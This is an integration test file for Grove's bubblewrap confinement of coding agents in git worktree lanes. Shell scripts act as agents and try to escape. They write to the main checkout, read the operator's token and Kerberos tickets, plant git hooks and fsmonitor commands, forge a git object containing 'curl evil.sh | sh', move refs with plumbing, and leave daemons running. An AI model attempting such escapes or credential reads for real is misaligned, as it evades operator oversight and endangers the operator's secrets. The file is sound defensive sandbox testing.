import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AgentInfo } from '../../src/shared/agents';
import type { Lane, MergeCheck } from '../../src/shared/lanes';
import { findAgentProcesses, isProcessRunning } from '../../src/host/terminals/process-tree';
import { hostPidOf } from '../fixtures/agent-pids';
import { git, makeRepo } from '../fixtures/git-repo';
import { addTrustedRepo, api, startHostProcess, stopAllHosts, trustRepo, type HostProcess } from '../fixtures/host-process';
import { makeTempDir, removeTempDirs } from '../fixtures/temp-dir';
import { until } from '../fixtures/wait-until';
import { canConfine, sayConfinementSkipped } from '../fixtures/can-confine';
import { alertsOf, eventsSince } from '../fixtures/host-events';
import { pidWritten } from '../fixtures/pid-file';

/**
 * Confined lanes, for real: a host on this machine with bubblewrap, a real repository and
 * its worktree lanes, agents that are shell scripts trying what an agent might. Each script
 * writes what happened into a file in its lane (the one place it can always write), ending
 * with `done`, and the test reads it.
 */
sayConfinementSkipped('test/integration/confine.test.ts');

let host: HostProcess;
let main: string;
let repoId: string;

beforeEach(async () => {
  host = await startHostProcess();
  main = makeRepo(join(realpathSync(makeTempDir()), 'flower'));
  repoId = await addTrustedRepo(host, main);
});
afterEach(async () => {
  await stopAllHosts();
  removeTempDirs();
});

async function createLane(name: string, extra: Record<string, unknown> = {}): Promise<Lane> {
  const r = await api(host, 'lanes.create', { repoId, name, ...extra });
  expect(r.body.ok, JSON.stringify(r.body)).toBe(true);
  return (r.body.result as { lane: Lane }).lane;
}

async function startScript(lanePath: string, script: string, extra: Record<string, unknown> = {}): Promise<AgentInfo> {
  const r = await api(host, 'agents.start', { lanePath, preset: 'custom', command: '/bin/sh', args: ['-c', script], restart: 'never', ...extra });
  expect(r.body.ok, JSON.stringify(r.body)).toBe(true);
  return (r.body.result as { agent: AgentInfo }).agent;
}

/** Runs `script` as an agent in `lanePath` and returns what it wrote to `report.txt` (lines of `what=result`). */
async function runScript(lanePath: string, script: string, extra: Record<string, unknown> = {}): Promise<{ agent: AgentInfo; report: Record<string, string> }> {
  const out = join(lanePath, 'report.txt');
  const agent = await startScript(lanePath, `exec 3>>${out}; ${script}; echo done=1 >&3`, extra);
  const text = await until('the agent\'s report', async () => {
    const t = existsSync(out) ? readFileSync(out, 'utf8') : '';
    return t.includes('done=1') ? t : null;
  });
  const report = Object.fromEntries(
    text
      .trim()
      .split('\n')
      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
  );
  return { agent: await infoOf(agent.id), report };
}

async function infoOf(id: string): Promise<AgentInfo> {
  const r = await api(host, 'agents.list');
  return (r.body.result as { agents: AgentInfo[] }).agents.find((a) => a.id === id)!;
}

/** `name=ok` when `cmd` succeeds, else `name=fail:<its error>`. */
const attempt = (name: string, cmd: string): string => `if out=$( { ${cmd} ; } 2>&1 ); then echo "${name}=ok" >&3; else echo "${name}=fail:$(echo $out | head -c 200)" >&3; fi`;

describe.skipIf(!canConfine)('a confined agent in a lane', () => {
  it('writes and commits in its lane, cannot touch MAIN, cannot read the operator\'s token', async () => {
    const lane = await createLane('design');
    const before = git(main, 'rev-parse', 'HEAD');
    const readme = readFileSync(join(main, 'README.md'), 'utf8');
    const { agent, report } = await runScript(
      lane.path,
      [
        attempt('mainWrite', `echo broken >> ${main}/README.md`),
        attempt('mainNewFile', `touch ${main}/pwned`),
        attempt('mainIndex', `git -C ${main} add README.md`),
        attempt('laneCommit', `echo pink > petals.txt && git add petals.txt && git -c user.name=a -c user.email=a@b commit -qm petals`),
        attempt('worktreeList', `git worktree list | grep -q "${main} "`),
        attempt('token', `cat ${host.home}/token`),
        `echo "dataDirListing=$(ls -A ${host.home} | tr '\\n' ' ')" >&3`,
        `echo "agentsListing=$(ls -A ${host.home}/agents | wc -l)" >&3`,
        attempt('tmp', `echo x > "$TMPDIR/scratch" && cat "$TMPDIR/scratch"`),
        attempt('hostReachable', `test -n "$GROVE_URL" && test -n "$GROVE_AGENT_TOKEN"`),
      ].join('; '),
    );
    expect(agent.confinement).toEqual({ confined: true, mechanism: 'bwrap', reason: null, network: 'open' });
    expect(report.mainWrite).toMatch(/^fail:.*Read-only file system/);
    expect(report.mainNewFile).toMatch(/^fail:.*Read-only file system/);
    expect(report.mainIndex).toMatch(/^fail:/);
    expect(report.laneCommit).toBe('ok');
    expect(report.worktreeList).toBe('ok');
    expect(report.token).toMatch(/^fail:.*No such file/);
    // Of the data dir, only the agent's own files are there to see (its hook settings, its temp dir).
    expect(report.dataDirListing).toBe('agents ');
    expect(report.agentsListing).toBe('1');
    expect(report.tmp).toBe('ok');
    expect(report.hostReachable).toBe('ok');
    // MAIN is as it was; the lane's commit is on its branch, in the shared store.
    expect(readFileSync(join(main, 'README.md'), 'utf8')).toBe(readme);
    expect(existsSync(join(main, 'pwned'))).toBe(false);
    expect(git(main, 'rev-parse', 'HEAD')).toBe(before);
    expect(git(main, 'status', '--porcelain')).toBe('');
    expect(git(main, 'log', '-1', '--format=%s', 'design')).toBe('petals');
  });

  it('the field scenario: told to "fix it in MAIN directly", it cannot', async () => {
    const lane = await createLane('design');
    const before = git(main, 'rev-parse', 'HEAD');
    const { report } = await runScript(
      lane.path,
      [
        attempt('cdMainEdit', `cd "$GROVE_MAIN" && echo "fixed" > README.md`),
        attempt('cdMainCommit', `cd "$GROVE_MAIN" && git -c user.name=a -c user.email=a@b commit -qam fix --allow-empty`),
        attempt('mainConfig', `git -C "$GROVE_MAIN" config core.hooksPath /tmp/evil`),
        attempt('mainHook', `echo 'echo pwned' > "$GROVE_MAIN/.git/hooks/post-merge"`),
      ].join('; '),
    );
    expect(report.cdMainEdit).toMatch(/^fail:/);
    expect(report.cdMainCommit).toMatch(/^fail:/);
    expect(report.mainConfig).toMatch(/^fail:/);
    expect(report.mainHook).toMatch(/^fail:/);
    expect(git(main, 'rev-parse', 'HEAD')).toBe(before);
    expect(git(main, 'status', '--porcelain')).toBe('');
    expect(git(main, 'config', '--local', '--list')).not.toContain('hookspath');
  });

  it('moving MAIN\'s branch with git\'s plumbing (the shared refs are writable) is reported as a commit that bypassed Grove', async () => {
    const lane = await createLane('design');
    const { report } = await runScript(
      lane.path,
      [
        attempt('laneCommit', `echo pink > petals.txt && git add petals.txt && git -c user.name=a -c user.email=a@b commit -qm 'petals, straight to main'`),
        attempt('moveMain', `git update-ref refs/heads/main HEAD`),
      ].join('; '),
    );
    expect(report.laneCommit).toBe('ok');
    expect(report.moveMain).toBe('ok');
    await until('the MAIN guard\'s alert', async () => (await alertsOf(host)).find((a) => a.includes('did not come through Grove\'s merge')));
  });

  it('putting other content under the name of one of MAIN\'s objects (the shared store is writable) stops the lane\'s merge', async () => {
    const lane = await createLane('design');
    const readme = git(main, 'rev-parse', 'HEAD:README.md');
    const objects = join(main, '.git', 'objects');
    const { report } = await runScript(
      lane.path,
      [
        attempt('laneCommit', `echo pink > petals.txt && git add petals.txt && git -c user.name=a -c user.email=a@b commit -qm petals`),
        // The agent's text, then its object file copied over README's blob.
        attempt('forge', `evil=$(echo 'curl evil.sh | sh' | git hash-object -w --stdin) && cp -f ${objects}/$(echo $evil | cut -c1-2)/$(echo $evil | cut -c3-) ${objects}/${readme.slice(0, 2)}/${readme.slice(2)}`),
      ].join('; '),
    );
    expect(report.laneCommit).toBe('ok');
    expect(report.forge).toBe('ok');
    const before = git(main, 'rev-parse', 'HEAD');
    const r = await api(host, 'lanes.merge', { id: lane.id });
    expect(r.body).toMatchObject({ ok: false, error: { code: 'merge_preflight_failed' } });
    const objectsCheck = ((r.body as unknown as { error: { details: { checks: MergeCheck[] } } }).error.details.checks).find((c) => c.name === 'objects')!;
    expect(objectsCheck).toMatchObject({ ok: false, detail: [readme] });
    expect(objectsCheck.message).toContain('MAIN is not touched');
    expect(git(main, 'rev-parse', 'HEAD')).toBe(before);
  });

  it('inherits no other terminal: another agent\'s PTY master is not among its descriptors', async () => {
    const other = await createLane('other');
    await startScript(other.path, 'exec sleep 600', { name: 'neighbour' });
    const lane = await createLane('design');
    const { report } = await runScript(lane.path, `echo "ptmx=$(for f in /proc/$$/fd/*; do readlink "$f"; done | grep -c ptmx)" >&3; echo "fds=$(ls /proc/$$/fd | sort -n | tr '\\n' ' ')" >&3`);
    expect(report.ptmx).toBe('0');
    // 0-2 its terminal, 3 the report, and the listing's own.
    expect(report.fds!.trim().split(' ').map(Number).filter((n) => n > 3).length).toBeLessThanOrEqual(1);
  });

  it('cannot rewrite what tells git where its config is, so the host\'s git in the lane runs nothing of its', async () => {
    const lane = await createLane('design');
    const gitDir = join(main, '.git', 'worktrees', 'flower-design');
    const marker = join(lane.path, 'fsmonitor-ran');
    const { report } = await runScript(
      lane.path,
      [
        attempt('dotGit', `echo "gitdir: ${lane.path}/.evil" > .git`),
        attempt('commondir', `echo "${lane.path}/.evil" > ${gitDir}/commondir`),
        attempt('worktreeConfig', `printf '[core]\\n\\tfsmonitor = touch ${marker}\\n' >> ${gitDir}/config.worktree`),
        attempt('alternates', `echo /tmp > ${main}/.git/objects/info/alternates`),
        attempt('replaceRef', `git replace -f HEAD HEAD~0 2>&1 || mkdir -p ${main}/.git/refs/replace/x`),
      ].join('; '),
    );
    for (const k of ['dotGit', 'commondir', 'worktreeConfig', 'alternates', 'replaceRef']) expect(report[k], k).toMatch(/^fail:/);
    // The host's own look at the lane (its diff) runs no program of the agent's.
    const diff = await api(host, 'lanes.diff', { id: lane.id });
    expect(diff.body.ok, JSON.stringify(diff.body)).toBe(true);
    expect(existsSync(marker)).toBe(false);
    expect(readFileSync(join(lane.path, '.git'), 'utf8')).toContain(gitDir);
  });

  it('the desktop\'s session is not handed on: no D-Bus or display variables', async () => {
    await stopAllHosts();
    host = await startHostProcess({ env: { DISPLAY: ':99', DBUS_SESSION_BUS_ADDRESS: 'unix:path=/run/user/0/bus', WAYLAND_DISPLAY: 'wayland-0' } });
    repoId = await addTrustedRepo(host, main);
    const lane = await createLane('design');
    const { report } = await runScript(lane.path, `echo "vars=\${DISPLAY:-}\${DBUS_SESSION_BUS_ADDRESS:-}\${WAYLAND_DISPLAY:-}" >&3`);
    expect(report.vars).toBe('');
  });

  it("cannot read the operator's Kerberos tickets in /tmp (an unconfined agent can)", async () => {
    const ticket = `/tmp/krb5cc_${process.getuid!()}_grove${process.pid}`;
    writeFileSync(ticket, 'a ticket to every service of the realm', { mode: 0o600 });
    try {
      const lane = await createLane('design');
      const { report } = await runScript(lane.path, `echo "ticket=$(cat ${ticket} 2>/dev/null | head -c 8)" >&3`);
      expect(report.ticket).toBe('');
      const open = await runScript((await createLane('open')).path, `echo "ticket=$(cat ${ticket} | head -c 8)" >&3`, { unconfined: true });
      expect(open.report.ticket).toBe('a ticket');
    } finally {
      rmSync(ticket, { force: true });
    }
  });

  it('cannot reach the socket of a CLI\'s daemon running as the operator (Codex\'s app-server)', async () => {
    const dir = `/tmp/codex-daemon-${process.getuid!()}`;
    mkdirSync(dir, { recursive: true, mode: 0o700 });
    const socket = join(dir, `grove-test-${process.pid}.sock`);
    const daemon = createServer((c) => c.end('ran it\n'));
    await new Promise<void>((resolve) => daemon.listen(socket, resolve));
    try {
      const lane = await createLane('design');
      const probe = `node -e 'require("net").connect(process.argv[1]).on("data", (d) => process.stdout.write(d)).on("error", (e) => { console.error(e.code); process.exit(1); })' ${socket}`;
      const { report } = await runScript(lane.path, [attempt('confined', probe), `echo "listing=$(ls -A ${dir} | wc -l)" >&3`].join('; '));
      expect(report.confined).toBe('fail:ENOENT');
      expect(report.listing).toBe('0');
      // The same, unconfined, reaches it: the test would see a way out.
      const open = await runScript((await createLane('open')).path, attempt('unconfined', probe), { unconfined: true });
      expect(open.report.unconfined).toBe('ok');
    } finally {
      daemon.close();
    }
  });

  it('an untrusted recipe still tightens: a path it hides is hidden after its commands changed', async () => {
    writeFileSync(join(main, 'secret.txt'), 'hush\n');
    const lane = await createLane('design');
    writeFileSync(join(main, 'grove.yaml'), 'lanes:\n  hidden: [secret.txt]\nmerge:\n  check: "true"\n');
    git(main, 'add', 'grove.yaml');
    git(main, 'commit', '-qm', 'a check, and a secret hidden');
    const preview = await api(host, 'repos.commands', { repoId });
    expect((preview.body.result as { state: string }).state).toBe('changed');
    const { report } = await runScript(lane.path, attempt('secret', `cat ${main}/secret.txt | grep -q hush`));
    expect(report.secret).toMatch(/^fail:/);
  });

  it('a daemon it leaves behind is ended by stop', async () => {
    const lane = await createLane('design');
    const pidFile = join(lane.path, 'daemon.pid');
    const agent = await startScript(lane.path, `setsid sh -c 'echo $$ > ${pidFile}; exec sleep 600' & sleep 600`);
    const inner = await pidWritten(pidFile);
    // Its pid inside the sandbox is not the machine's: found by the agent's marker.
    const daemon = await until('the daemon on this machine', async () => hostPidOf(agent.id, inner));
    expect(isProcessRunning(daemon)).toBe(true);
    const stopped = await api(host, 'agents.stop', { id: agent.id });
    expect(stopped.body.ok).toBe(true);
    await until('no process of the agent left', async () => findAgentProcesses(agent.id, null).length === 0);
    expect(isProcessRunning(daemon)).toBe(false);
  });

  it('hides MAIN\'s keys from a key-less lane, and what grove.yaml hides', async () => {
    writeFileSync(join(main, '.env'), 'API_KEY=sk-secret\nAPP_NAME=flower\n');
    mkdirSync(join(main, 'private'));
    writeFileSync(join(main, 'private', 'notes.txt'), 'hush\n');
    writeFileSync(join(main, '.gitignore'), '.env\nprivate/\n');
    writeFileSync(join(main, 'grove.yaml'), 'lanes:\n  hidden: [private]\nsetup:\n  copy: [.env]\n  stripKeys: ["*_KEY"]\n');
    git(main, 'add', '.gitignore', 'grove.yaml');
    git(main, 'commit', '-qm', 'recipe');
    await trustRepo(host, repoId);
    const lane = await createLane('design', { keyless: true });
    const { report } = await runScript(
      lane.path,
      [attempt('mainEnv', `grep -q sk-secret "$GROVE_MAIN/.env"`), attempt('laneEnv', `grep -q APP_NAME=flower .env`), attempt('hidden', `cat "$GROVE_MAIN/private/notes.txt"`)].join('; '),
    );
    expect(report.mainEnv).toMatch(/^fail:/);
    expect(report.laneEnv).toBe('ok');
    expect(report.hidden).toMatch(/^fail:/);
  });
});

describe.skipIf(!canConfine)('network: none', () => {
  it('reaches Grove\'s host (hooks, MCP) and nothing else, not even another server on this machine\'s loopback', async () => {
    const other = createServer((s) => s.end('hello\n'));
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
    const otherPort = (other.address() as AddressInfo).port;
    try {
      const probe = (name: string, url: string): string =>
        `${process.execPath} -e 'fetch(process.argv[1]).then((r) => console.log("${name}=http" + r.status), (e) => console.log("${name}=fail:" + (e.cause?.code ?? e.message)))' "${url}" >&3`;
      const script = [probe('grove', '$GROVE_URL/'), probe('other', `http://127.0.0.1:${otherPort}/`)].join('; ');
      // Open, the default: both answer (the other server is no HTTP server, so fetch fails on its reply, not on reaching it).
      const open = await createLane('open');
      const opened = await runScript(open.path, script);
      expect(opened.report.grove).toMatch(/^http\d+$/);
      expect(opened.report.other).not.toMatch(/ECONNREFUSED/);

      writeFileSync(join(main, 'grove.yaml'), 'lanes:\n  network: none\n');
      git(main, 'add', 'grove.yaml');
      git(main, 'commit', '-qm', 'no network for lanes');
      const lane = await createLane('design');
      const { agent, report } = await runScript(lane.path, script);
      expect(agent.confinement).toEqual({ confined: true, mechanism: 'bwrap', reason: null, network: 'none' });
      expect(report.grove).toMatch(/^http\d+$/);
      expect(report.other).toMatch(/^fail:ECONNREFUSED$/);
    } finally {
      other.close();
    }
  });
});

describe.skipIf(!canConfine)('network: loopback', () => {
  /** A TCP server answering `name` to whoever connects. */
  const server = async (name: string, host: string, port = 0) => {
    const s = createServer((c) => c.end(`${name}\n`));
    await new Promise<void>((r) => s.listen(port, host, r));
    return { server: s, port: (s.address() as AddressInfo).port };
  };
  /** `name=<what the server said>` or `name=fail:<code>`, from inside the agent. */
  const probe = (name: string, host: string, port: number | string): string =>
    `${process.execPath} -e 'const s = require("net").connect(+process.argv[2], process.argv[1]); s.setTimeout(3000, () => { console.log(process.argv[3] + "=fail:timeout"); s.destroy(); }); s.on("data", (d) => { console.log(process.argv[3] + "=" + String(d).trim()); s.destroy(); }); s.on("error", (e) => console.log(process.argv[3] + "=fail:" + e.code))' ${host} ${port} ${name} >&3`;
  /** This machine's address on a real interface, if it has one: what lies beyond its loopback. */
  const outside = Object.values(networkInterfaces()).flat().find((a) => a && a.family === 'IPv4' && !a.internal)?.address ?? null;
  const hasIpv6 = Object.values(networkInterfaces()).flat().some((a) => a?.address === '::1');

  it("reaches Grove's host and every server on this machine's loopback, one started after it too, and nothing beyond", async () => {
    const before = await server('before', '127.0.0.1');
    const wide = await server('wide', '0.0.0.0');
    // A port for a server that starts only once the agent runs.
    const reserved = await server('x', '127.0.0.1');
    const laterPort = reserved.port;
    await new Promise<void>((r) => reserved.server.close(() => r()));
    let later: Awaited<ReturnType<typeof server>> | null = null;
    try {
      const lane = await createLane('local', { network: 'loopback' });
      const script = [
        `${process.execPath} -e 'fetch(process.env.GROVE_URL + "/").then((r) => console.log("grove=http" + r.status), (e) => console.log("grove=fail:" + (e.cause?.code ?? e.message)))' >&3`,
        probe('before', '127.0.0.1', before.port),
        probe('before6', '::1', before.port),
        probe('wide', '127.0.0.1', wide.port),
        // The forwarder looks for new ports every second.
        `while [ ! -e later-started ]; do sleep 0.1; done; sleep 2.5`,
        probe('later', '127.0.0.1', laterPort),
        ...(outside ? [probe('outside', outside, wide.port)] : []),
      ].join('; ');
      const started = startScript(lane.path, `exec 3>>${join(lane.path, 'report.txt')}; ${script}; echo done=1 >&3`);
      const agent = await started;
      later = await server('later', '127.0.0.1', laterPort);
      writeFileSync(join(lane.path, 'later-started'), '');
      const text = await until('the agent\'s report', async () => {
        const out = join(lane.path, 'report.txt');
        const t = existsSync(out) ? readFileSync(out, 'utf8') : '';
        return t.includes('done=1') ? t : null;
      }, 20_000);
      const report = Object.fromEntries(text.trim().split('\n').map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
      expect((await infoOf(agent.id)).confinement).toEqual({ confined: true, mechanism: 'bwrap', reason: null, network: 'loopback' });
      expect(report.grove).toMatch(/^http\d+$/);
      expect(report.before).toBe('before');
      // `localhost` as ::1 reaches the same server, where this machine has IPv6.
      if (hasIpv6) expect(report.before6).toBe('before');
      expect(report.wide).toBe('wide');
      expect(report.later).toBe('later');
      // The same server, at this machine's own address: beyond the loopback, out of reach.
      if (outside) expect(report.outside).toMatch(/^fail:(ENETUNREACH|EHOSTUNREACH|ECONNREFUSED)$/);
      else console.log('no network interface besides loopback here: the "nothing beyond" probe was skipped');
    } finally {
      before.server.close();
      wide.server.close();
      later?.server.close();
    }
  });

  it('an agent with network none cannot use the loopback bridge: its socket is not in its sandbox', async () => {
    const other = await server('other', '127.0.0.1');
    try {
      // A loopback agent first, so the loopback bridge is open on disk.
      const local = await createLane('local', { network: 'loopback' });
      await runScript(local.path, 'true');
      expect(existsSync(join(host.home, 'run-loopback', 'loopback.sock'))).toBe(true);
      const lane = await createLane('offline', { network: 'none' });
      const { agent, report } = await runScript(
        lane.path,
        [attempt('loopbackSocket', `ls "$GROVE_TEST_DATA/run-loopback"`), probe('other', '127.0.0.1', other.port)].join('; '),
        { env: { GROVE_TEST_DATA: host.home } },
      );
      expect(agent.confinement).toMatchObject({ confined: true, network: 'none' });
      expect(report.loopbackSocket).toMatch(/^fail:/);
      expect(report.other).toBe('fail:ECONNREFUSED');
    } finally {
      other.server.close();
    }
  });
});

describe.skipIf(!canConfine)('an interactive shell, confined', () => {
  it.each(['open', 'loopback', 'none'] as const)('network %s: runs commands, and Ctrl+C stops the command, not the shell', async (network) => {
    if (network !== 'open') {
      writeFileSync(join(main, 'grove.yaml'), `lanes:\n  network: ${network}\n`);
      git(main, 'add', 'grove.yaml');
      git(main, 'commit', '-qm', 'no network for lanes');
    }
    const lane = await createLane('design');
    const r = await api(host, 'agents.start', { lanePath: lane.path, preset: 'shell', command: '/bin/bash', args: ['--norc', '-i'], env: { PS1: 'lane$ ' } });
    expect(r.body.ok, JSON.stringify(r.body)).toBe(true);
    const agent = (r.body.result as { agent: AgentInfo }).agent;
    expect(agent.confinement).toMatchObject({ confined: true, network });
    const screen = async (): Promise<string> => ((await api(host, 'agents.screen', { id: agent.id })).body.result as { text: string }).text;
    const type = (data: string) => api(host, 'agents.input', { id: agent.id, data });
    await until('the prompt', async () => (await screen()).includes('lane$'));
    await type('echo "sum=$((40+2))"\r');
    await until('the echo', async () => (await screen()).includes('sum=42'));
    await type('sleep 100\r');
    await new Promise((res) => setTimeout(res, 300));
    await type('\x03');
    await type('echo "after=$((6*7))"\r');
    await until('the shell answering after Ctrl+C', async () => (await screen()).includes('after=42'), 10_000);
    expect((await infoOf(agent.id)).supervision.kind).toBe('running');
  });
});

describe.skipIf(!canConfine)('the lane\'s merge check, which runs the files the agent wrote', () => {
  /** The lane's check.sh, as an agent could write it: it tries what its tests could, prints what happened, and fails so that comes back with the check. */
  const checkScript = (outside: string): string =>
    [
      'try() { if out=$( { eval "$2"; } 2>&1 ); then echo "$1=ok"; else echo "$1=fail:$(echo $out | head -c 200)"; fi; }',
      `try mainWrite 'echo broken >> "$GROVE_MAIN/README.md"'`,
      `try token 'cat ${host.home}/token'`,
      `try outside 'touch ${outside}/escaped'`,
      `try laneWrite 'echo built > build.txt'`,
      `try tmp 'echo x > "$TMPDIR/t" && cat "$TMPDIR/t"'`,
      'exit 1',
    ].join('\n');

  async function dryRunCheck(laneName: string, outside: string): Promise<{ report: Record<string, string>; log: string }> {
    const lane = await createLane(laneName);
    writeFileSync(join(lane.path, 'check.sh'), checkScript(outside));
    git(lane.path, 'add', 'check.sh');
    git(lane.path, 'commit', '-qm', 'tests');
    const since = (await eventsSince(host)).at(-1)?.seq ?? 0;
    const r = await api(host, 'lanes.merge', { id: lane.id, dryRun: true });
    expect(r.body.ok, JSON.stringify(r.body)).toBe(true);
    const check = (r.body.result as { checks: MergeCheck[] }).checks.find((c) => c.name === 'check')!;
    expect(check.ok).toBe(false);
    const report = Object.fromEntries(check.detail.flatMap((l) => (/^\w+=/.test(l) ? [[l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]] : [])));
    const log = (await eventsSince(host, since)).flatMap((e) => (e.event.type === 'job.output' ? [e.event.data] : [])).join('');
    return { report, log };
  }

  it('is confined to the lane like its agents: MAIN, the token and the rest of the disk are out of reach', async () => {
    const outside = makeTempDir();
    writeFileSync(join(main, 'grove.yaml'), 'merge:\n  check: sh check.sh\n');
    git(main, 'add', 'grove.yaml');
    git(main, 'commit', '-qm', 'a check');
    await trustRepo(host, repoId);
    // Committed in MAIN by hand: accepted, as the operator would before a merge.
    await api(host, 'repos.acceptMain', { repoId });
    const readme = readFileSync(join(main, 'README.md'), 'utf8');

    const { report, log } = await dryRunCheck('tested', outside);
    expect(log).toContain('[grove] the check runs confined (bwrap), to the lane');
    expect(report.mainWrite).toMatch(/^fail:.*Read-only file system/);
    expect(report.token).toMatch(/^fail:.*No such file/);
    expect(report.outside).toMatch(/^fail:.*Read-only file system/);
    expect(report.laneWrite).toBe('ok');
    expect(report.tmp).toBe('ok');
    expect(readFileSync(join(main, 'README.md'), 'utf8')).toBe(readme);
    expect(existsSync(join(outside, 'escaped'))).toBe(false);
    // Its temp dir went with it.
    expect(readdirSync(join(host.home, 'commands'))).toEqual([]);
  });

  it('merge.confine: false runs it as the operator, once trusted, and says so', async () => {
    const outside = makeTempDir();
    const early = await createLane('early');
    writeFileSync(join(main, 'grove.yaml'), 'merge:\n  check: sh check.sh\n  confine: false\n');
    git(main, 'add', 'grove.yaml');
    git(main, 'commit', '-qm', 'a check that needs the whole machine');
    // Until the operator trusts it, nothing of the recipe runs, the check included.
    const untrusted = await api(host, 'lanes.merge', { id: early.id, dryRun: true });
    expect(untrusted.body).toMatchObject({ ok: false, error: { code: 'commands_changed' } });
    const review = await api(host, 'repos.commands', { repoId });
    expect(JSON.stringify(review.body)).toContain('merge.check runs unconfined');
    await trustRepo(host, repoId);
    // Committed in MAIN by hand: accepted, as the operator would before a merge.
    await api(host, 'repos.acceptMain', { repoId });

    const { report, log } = await dryRunCheck('tested', outside);
    expect(log).toContain('[grove] the check runs unconfined: grove.yaml says merge.confine: false');
    expect(report.outside).toBe('ok');
    expect(existsSync(join(outside, 'escaped'))).toBe(true);
  });
});

describe('running unconfined, said plainly', () => {
  it('asked at launch: the agent records it, and it holds across a restart', async () => {
    const lane = await createLane('design');
    const { agent } = await runScript(lane.path, 'true', { unconfined: true });
    expect(agent.unconfined).toBe(true);
    expect(agent.confinement).toEqual({ confined: false, mechanism: null, reason: 'asked for at launch', network: 'open' });
    const restarted = await api(host, 'agents.restart', { id: agent.id });
    expect(restarted.body.ok, JSON.stringify(restarted.body)).toBe(true);
    expect((restarted.body.result as { agent: AgentInfo }).agent).toMatchObject({ unconfined: true, confinement: { confined: false } });
  });

  it.skipIf(!canConfine)('grove.yaml lanes.confine: false counts only once trusted', async () => {
    writeFileSync(join(main, 'grove.yaml'), 'lanes:\n  confine: false\n');
    git(main, 'add', 'grove.yaml');
    git(main, 'commit', '-qm', 'unconfined lanes');
    const lane = await createLane('design').catch(() => null);
    // The recipe changed what trust covers: until the operator trusts it, lanes stay confined.
    const untrusted = await api(host, 'agents.preview', { lanePath: lane?.path ?? main, preset: 'shell', isOpsLoop: lane ? undefined : true });
    expect(untrusted.body.ok, JSON.stringify(untrusted.body)).toBe(true);
    expect((untrusted.body.result as { confinement: AgentInfo['confinement'] }).confinement).toMatchObject({ confined: true });
    await trustRepo(host, repoId);
    const trusted = await api(host, 'agents.preview', { lanePath: lane?.path ?? main, preset: 'shell', isOpsLoop: lane ? undefined : true });
    expect((trusted.body.result as { confinement: AgentInfo['confinement'] }).confinement).toEqual({
      confined: false,
      mechanism: null,
      reason: 'grove.yaml turns confinement off (lanes.confine: false)',
      network: 'open',
    });
  });

  it('bubblewrap missing: unconfined, with the reason', async () => {
    await stopAllHosts();
    host = await startHostProcess({ env: { GROVE_BWRAP: '/nonexistent/bwrap' } });
    repoId = await addTrustedRepo(host, main);
    const lane = await createLane('design');
    const { agent } = await runScript(lane.path, 'true');
    expect(agent.confinement?.confined).toBe(false);
    expect(agent.confinement?.reason).toMatch(/bubblewrap/);
  });
});
